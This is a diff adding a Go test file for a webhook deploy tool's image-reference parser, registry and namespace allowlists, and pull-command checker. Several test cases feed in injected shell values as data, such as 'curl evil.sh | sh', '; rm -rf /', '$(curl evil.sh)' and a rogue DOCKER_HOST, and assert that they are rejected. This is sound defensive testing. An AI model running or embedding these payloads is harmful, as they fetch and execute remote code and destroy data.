@@ -0,0 +1,281 @@
+package main
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+const testDigest = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
+
+// loadTestConfig loads a pipeline file with the environment settings that
+// would otherwise leak into it cleared
+func loadTestConfig(t *testing.T, pipeline string) *Config {
+	t.Helper()
+	for _, key := range []string{"DOCKER_ALLOWED_REGISTRIES", "DOCKER_ALLOWED_NAMESPACES", "DEPLOY_SHELL",
+		"GITLAB_TOKEN", "GITEA_SECRET", "BITBUCKET_SECRET", "DOCKERHUB_TOKEN", "HARBOR_AUTH"} {
+		t.Setenv(key, "")
+	}
+	file := filepath.Join(t.TempDir(), "deploy.yaml")
+	if err := os.WriteFile(file, []byte(pipeline), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := loadConfigFile(file, true)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return cfg
+}
+
+func TestParseImageRef(t *testing.T) {
+	tests := []struct {
+		raw  string
+		want string // normalized reference, "" when the reference is invalid
+	}{
+		{"nginx", "docker.io/library/nginx:latest"},
+		{"company/api:1.4.2", "docker.io/company/api:1.4.2"},
+		{"index.docker.io/company/api:1.4.2", "docker.io/company/api:1.4.2"},
+		{"ghcr.io/company/api", "ghcr.io/company/api:latest"},
+		{"localhost:5000/api:dev", "localhost:5000/api:dev"},
+		{"harbor.company.com:8443/team/sub/api:v1", "harbor.company.com:8443/team/sub/api:v1"},
+		{"ghcr.io/company/api@" + testDigest, "ghcr.io/company/api@" + testDigest},
+		{"ghcr.io/company/api:1.4.2@" + testDigest, "ghcr.io/company/api:1.4.2@" + testDigest},
+		{"ghcr.io/company/api@sha256:abc", ""},
+		{"ghcr.io/company/api@md5:" + strings.Repeat("0", 32), ""},
+		{"ghcr.io/Company/api", ""},
+		{"ghcr.io/company/api:-latest", ""},
+		{"ghcr.io/company/api:1.0;id", ""},
+		{"ghcr.io/company/$(id)", ""},
+		{"ghcr.io/company/api rm", ""},
+		{"ghcr.io/", ""},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		ref, err := parseImageRef(tt.raw)
+		switch {
+		case tt.want == "" && err == nil:
+			t.Errorf("parseImageRef(%q) = %s, want an error", tt.raw, ref)
+		case tt.want != "" && err != nil:
+			t.Errorf("parseImageRef(%q): %v", tt.raw, err)
+		case tt.want != "" && ref.String() != tt.want:
+			t.Errorf("parseImageRef(%q) = %s, want %s", tt.raw, ref, tt.want)
+		}
+	}
+}
+
+func TestWorkflowImage(t *testing.T) {
+	cfg := loadTestConfig(t, `
+server: {secret: s}
+defaults:
+  images:
+    registries: [ghcr.io]
+    namespaces: [company]
+repos:
+  company/web:
+    images:
+      registries: [harbor.company.com, "*.registry.company.com"]
+      namespaces: [team, "team/*"]
+`)
+
+	tests := []struct {
+		name    string
+		repo    string
+		docker  string // docker section of the payload
+		want    string
+		wantErr string
+	}{
+		{
+			name:   "latest image",
+			docker: `{"registry":"ghcr.io","image_name":"company/api","latest_image":"ghcr.io/company/api:latest","versioned_image":"ghcr.io/company/api:main-abc1234"}`,
+			want:   "ghcr.io/company/api:latest",
+		},
+		{
+			name:   "image name and tag",
+			docker: `{"registry":"ghcr.io","image_name":"company/api","latest_tag":"1.4.2"}`,
+			want:   "ghcr.io/company/api:1.4.2",
+		},
+		{
+			name:   "image name with registry",
+			docker: `{"registry":"ghcr.io","image_name":"ghcr.io/company/api","latest_tag":"1.4.2"}`,
+			want:   "ghcr.io/company/api:1.4.2",
+		},
+		{
+			name:   "digest",
+			docker: `{"registry":"ghcr.io","image_name":"company/api","latest_image":"ghcr.io/company/api@` + testDigest + `"}`,
+			want:   "ghcr.io/company/api@" + testDigest,
+		},
+		{
+			name:   "pull command of the versioned image",
+			docker: `{"image_name":"company/api","latest_image":"ghcr.io/company/api:latest","versioned_image":"ghcr.io/company/api:main-abc1234","pull_command":"docker pull ghcr.io/company/api:main-abc1234"}`,
+			want:   "ghcr.io/company/api:latest",
+		},
+		{
+			name:   "repository allowlist",
+			repo:   "company/web",
+			docker: `{"latest_image":"harbor.company.com/team/frontend/web:2.0"}`,
+			want:   "harbor.company.com/team/frontend/web:2.0",
+		},
+		{
+			name:   "registry pattern",
+			repo:   "company/web",
+			docker: `{"latest_image":"eu.registry.company.com/team/web:2.0"}`,
+			want:   "eu.registry.company.com/team/web:2.0",
+		},
+		{
+			name:    "registry not allowed",
+			docker:  `{"latest_image":"docker.io/company/api:latest"}`,
+			wantErr: "registry docker.io is not allowed",
+		},
+		{
+			name:    "namespace not allowed",
+			docker:  `{"latest_image":"ghcr.io/attacker/api:latest"}`,
+			wantErr: "namespace attacker of ghcr.io/attacker/api is not allowed",
+		},
+		{
+			name:    "nested namespace not allowed",
+			docker:  `{"latest_image":"ghcr.io/company/evil/api:latest"}`,
+			wantErr: "namespace company/evil",
+		},
+		{
+			name:    "repository allowlist replaces the defaults",
+			repo:    "company/web",
+			docker:  `{"latest_image":"ghcr.io/company/web:latest"}`,
+			wantErr: "registry ghcr.io is not allowed",
+		},
+		{
+			name:    "registry mismatch",
+			docker:  `{"registry":"docker.io","image_name":"company/api","latest_image":"ghcr.io/company/api:latest"}`,
+			wantErr: `docker.registry "docker.io" does not match`,
+		},
+		{
+			name:    "image name mismatch",
+			docker:  `{"registry":"ghcr.io","image_name":"company/other","latest_image":"ghcr.io/company/api:latest"}`,
+			wantErr: `docker.image_name "company/other" does not match`,
+		},
+		{
+			name:    "image name of another registry",
+			docker:  `{"registry":"ghcr.io","image_name":"quay.io/company/api","latest_image":"ghcr.io/company/api:latest"}`,
+			wantErr: "docker.image_name",
+		},
+		{
+			name:    "versioned image of another repository",
+			docker:  `{"latest_image":"ghcr.io/company/api:latest","versioned_image":"ghcr.io/company/other:v1"}`,
+			wantErr: "is not the same repository",
+		},
+		{
+			name:    "invalid tag",
+			docker:  `{"registry":"ghcr.io","image_name":"company/api","latest_tag":"latest; curl evil.sh | sh"}`,
+			wantErr: "docker.latest_image: invalid tag",
+		},
+		{
+			name:    "pull command of another image",
+			docker:  `{"latest_image":"ghcr.io/company/api:latest","pull_command":"docker pull ghcr.io/attacker/api:latest"}`,
+			wantErr: "docker.pull_command",
+		},
+		{
+			name:    "pull command with a shell",
+			docker:  `{"latest_image":"ghcr.io/company/api:latest","pull_command":"docker pull ghcr.io/company/api:latest && curl evil.sh | sh"}`,
+			wantErr: "docker.pull_command",
+		},
+		{
+			name:    "no image",
+			docker:  `{"registry":"ghcr.io"}`,
+			wantErr: "docker.latest_image or docker.image_name is required",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			repo := firstNonEmpty(tt.repo, "company/api")
+			var payload WebhookPayload
+			if err := json.Unmarshal([]byte(`{"docker":`+tt.docker+`}`), &payload); err != nil {
+				t.Fatal(err)
+			}
+			payload.Repository.FullName = repo
+			payload.Repository.Name = repo[strings.LastIndex(repo, "/")+1:]
+
+			ref, err := workflowImage(cfg, payload)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("error = %v, want one containing %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if ref.String() != tt.want {
+				t.Errorf("image = %s, want %s", ref, tt.want)
+			}
+		})
+	}
+}
+
+func TestWorkflowImageInvalidContainerName(t *testing.T) {
+	cfg := loadTestConfig(t, "server: {secret: s}\ndefaults: {images: {registries: [ghcr.io], namespaces: [company]}}\n")
+	var payload WebhookPayload
+	payload.Repository.FullName, payload.Repository.Name = "company/api", "api;id"
+	payload.Docker.LatestImage = "ghcr.io/company/api:latest"
+	if _, err := workflowImage(cfg, payload); err == nil || !strings.Contains(err.Error(), "not a valid container name") {
+		t.Errorf("error = %v, want an invalid container name", err)
+	}
+}
+
+// Without an allowlist no workflow payload deploys anything
+func TestWorkflowImageEmptyAllowlist(t *testing.T) {
+	cfg := loadTestConfig(t, "server: {secret: s}\n")
+	for _, image := range []string{"ghcr.io/company/api:latest", "nginx", "company/api@" + testDigest} {
+		var payload WebhookPayload
+		payload.Repository.FullName, payload.Repository.Name = "company/api", "api"
+		payload.Docker.LatestImage = image
+		if _, err := workflowImage(cfg, payload); err == nil || !strings.Contains(err.Error(), "no registries are allowed") {
+			t.Errorf("%s: error = %v, want the empty allowlist to reject it", image, err)
+		}
+	}
+
+	cfg = loadTestConfig(t, "server: {secret: s}\ndefaults: {images: {registries: [ghcr.io]}}\n")
+	var payload WebhookPayload
+	payload.Repository.FullName, payload.Repository.Name = "company/api", "api"
+	payload.Docker.LatestImage = "ghcr.io/company/api:latest"
+	if _, err := workflowImage(cfg, payload); err == nil || !strings.Contains(err.Error(), "no image namespaces are allowed") {
+		t.Errorf("error = %v, want the empty namespace list to reject it", err)
+	}
+}
+
+func TestCheckPullCommand(t *testing.T) {
+	images := []imageRef{mustImageRef(t, "ghcr.io/company/api:latest"), mustImageRef(t, "ghcr.io/company/api:main-abc1234")}
+	tests := []struct {
+		command string
+		ok      bool
+	}{
+		{"docker pull ghcr.io/company/api:latest", true},
+		{"docker pull ghcr.io/company/api:main-abc1234", true},
+		{"docker pull ghcr.io/company/api", true}, // latest is implied
+		{"  docker   pull 'ghcr.io/company/api:latest'  ", true},
+		{"docker pull ghcr.io/company/api:v2", false},
+		{"docker pull ghcr.io/company/other:latest", false},
+		{"docker pull docker.io/company/api:latest", false},
+		{"docker pull ghcr.io/company/api@" + testDigest, false},
+		{"docker pull --platform linux/amd64 ghcr.io/company/api:latest", false},
+		{"docker pull ghcr.io/company/api:latest --quiet", false},
+		{"docker run ghcr.io/company/api:latest", false},
+		{"podman pull ghcr.io/company/api:latest", false},
+		{"DOCKER_HOST=tcp://evil:2375 docker pull ghcr.io/company/api:latest", false},
+		{"docker pull ghcr.io/company/api:latest; rm -rf /", false},
+		{"docker pull ghcr.io/company/api:latest && curl evil.sh | sh", false},
+		{"docker pull ghcr.io/company/api:latest > /etc/passwd", false},
+		{"docker pull $(curl evil.sh)", false},
+		{"docker pull `id`", false},
+		{"docker pull", false},
+		{"", false},
+	}
+	for _, tt := range tests {
+		err := checkPullCommand(tt.command, images)
+		if tt.ok && err != nil {
+			t.Errorf("checkPullCommand(%q): %v", tt.command, err)
+		} else if !tt.ok && err == nil {
+			t.Errorf("checkPullCommand(%q) accepted the command", tt.command)
+		}
+	}
+}